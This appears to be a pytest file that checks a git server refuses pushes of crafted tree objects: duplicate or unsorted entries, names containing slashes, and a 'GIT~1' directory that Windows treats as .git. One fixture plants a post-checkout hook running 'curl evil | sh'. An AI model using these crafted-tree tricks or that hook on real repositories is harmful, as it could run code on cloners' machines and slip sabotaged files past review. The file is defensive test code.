"""Beyond the issue's list: trees that only crafted objects have, where readers may disagree on what they hold.

receive-pack without ``receive.fsckObjects`` stores them; ``git fsck`` calls them errors (``duplicateEntries``,
``treeNotSorted``, ``fullPathname``). libgit2 looks entries up by binary search and diffs sorted iterators, git's
checkout walks them in stored order: a gate that takes one reader's view can approve what another shows.
"""

from __future__ import annotations

import pytest
from gitserver import Server, run_git

from attacks.attacklib import Crafter, assert_refused, bare_git


def _llama(x: Crafter) -> list[tuple[str, bytes, str]]:
    return x._entries(bare_tree(x, "HEAD:models/llama"))


def bare_tree(x: Crafter, rev: str) -> str:
    return run_git("rev-parse", rev, cwd=x.clone.path).stdout.decode().strip()


def _commit_with_llama(x: Crafter, raw_tree: bytes) -> str:
    llama = run_git("hash-object", "-w", "--literally", "-t", "tree", "--stdin", cwd=x.clone.path,
                    input=raw_tree).stdout.decode().strip()
    return x.commit(x.tree_with(bare_tree(x, "HEAD"), b"models/llama", "40000", llama), bare_tree(x, "HEAD"))


def _raw(entries: list[tuple[str, bytes, str]]) -> bytes:
    return b"".join(m.encode() + b" " + n + b"\x00" + bytes.fromhex(o) for m, n, o in entries)


def test_duplicate_entry_for_a_protected_file_is_refused(server: Server) -> None:
    """Two entries named modeling.py: the original first, the sabotaged one second."""
    x = Crafter(server.clone())
    before = server.ref("refs/heads/main")
    entries = _llama(x)
    evil = x.blob(b"class Llama:\n    sabotage = True\n")
    original = [e for e in entries if e[1] == b"modeling.py"][0]
    raw = _raw(sorted(entries, key=lambda e: e[1]) + [("100644", b"modeling.py", evil)])
    result = x.push(_commit_with_llama(x, raw), "refs/heads/main")
    assert_refused(server, result, "refs/heads/main", before, "'modeling.py' appears twice")
    assert original[2] == bare_git(server, "rev-parse", "main:models/llama/modeling.py")


def test_unsorted_tree_cannot_hide_a_protected_change(server: Server) -> None:
    x = Crafter(server.clone())
    before = server.ref("refs/heads/main")
    entries = [e for e in _llama(x) if e[1] != b"modeling.py"]
    evil = x.blob(b"class Llama:\n    sabotage = True\n")
    raw = _raw([("100644", b"zzz.py", x.blob(b"pass\n")), *entries, ("100644", b"modeling.py", evil)])
    result = x.push(_commit_with_llama(x, raw), "refs/heads/main")
    assert_refused(server, result, "refs/heads/main", before, "not in git's order")


def test_entry_name_with_slashes_is_the_path_it_spells(server: Server) -> None:
    """A root entry literally named 'models/llama/modeling.py' is that path to git's index."""
    x = Crafter(server.clone())
    before = server.ref("refs/heads/main")
    evil = x.blob(b"class Llama:\n    sabotage = True\n")
    root = [e for e in x._entries(bare_tree(x, "HEAD^{tree}")) if e[1] != b"models"]
    raw = _raw(sorted([*root, ("100644", b"models/llama/modeling.py", evil)], key=lambda e: e[1]))
    tree = run_git("hash-object", "-w", "--literally", "-t", "tree", "--stdin", cwd=x.clone.path,
                   input=raw).stdout.decode().strip()
    result = x.push(x.commit(tree, bare_tree(x, "HEAD")), "refs/heads/main")
    assert_refused(server, result, "refs/heads/main", before, "containing '/'")


def test_duplicate_entry_on_an_unprotected_branch_is_refused_too(server: Server) -> None:
    """Which of two same-named entries a reader takes decides what it shows, on any branch."""
    x = Crafter(server.clone())
    entries = sorted(_llama(x), key=lambda e: e[1])
    raw = _raw([("100644", b"a.bin", x.blob(b"one")), ("100644", b"a.bin", x.blob(b"two")), *entries])
    result = x.push(_commit_with_llama(x, raw), "refs/heads/feature")
    assert_refused(server, result, "refs/heads/feature", None, "'a.bin' appears twice")


def test_dotgit_entry_under_ntfs_rules_is_refused(server: Server) -> None:
    """`GIT~1` is `.git` in a Windows checkout: a hook or config written there runs on the cloner's machine."""
    x = Crafter(server.clone())
    hooks = x.tree([("100755", b"post-checkout", x.blob(b"#!/bin/sh\ncurl evil | sh\n"))])
    dotgit = x.tree([("40000", b"hooks", hooks)])
    commit = x.commit_with(b"GIT~1", "40000", dotgit)
    result = x.push(commit, "refs/heads/feature")
    assert_refused(server, result, "refs/heads/feature", None, "is .git under some checkout's rules")


def test_crafted_tree_inside_a_kept_pack_is_found(server: Server) -> None:
    """Past receive.unpackLimit (100 objects) the push stays a pack in the quarantine; the check reads packs too."""
    c = server.clone()
    for i in range(120):
        c.write(f"data/f{i}.txt", f"{i}\n")
    c.commit("many files")
    x = Crafter(c)
    entries = sorted(_llama(x), key=lambda e: e[1])
    raw = _raw([("100644", b"a.bin", x.blob(b"one")), ("100644", b"a.bin", x.blob(b"two")), *entries])
    result = x.push(_commit_with_llama(x, raw), "refs/heads/feature")
    assert_refused(server, result, "refs/heads/feature", None, "'a.bin' appears twice")


@pytest.mark.parametrize("unpack_limit", ["1", "100"])
def test_a_crafted_tree_is_found_in_a_packed_or_a_loose_quarantine(server: Server, unpack_limit: str) -> None:
    """receive.unpackLimit decides whether the quarantine holds a pack (listed by git) or loose objects (listed from
    their files): the crafted tree is found either way."""
    run_git("config", "receive.unpackLimit", unpack_limit, cwd=server.bare)
    x = Crafter(server.clone())
    before = server.ref("refs/heads/main")
    evil = x.blob(b"class Llama:\n    sabotage = True\n")
    raw = _raw(sorted(_llama(x), key=lambda e: e[1]) + [("100644", b"modeling.py", evil)])
    result = x.push(_commit_with_llama(x, raw), "refs/heads/feature/x")
    assert_refused(server, result, "refs/heads/feature/x", None, "'modeling.py' appears twice")
    assert server.ref("refs/heads/main") == before
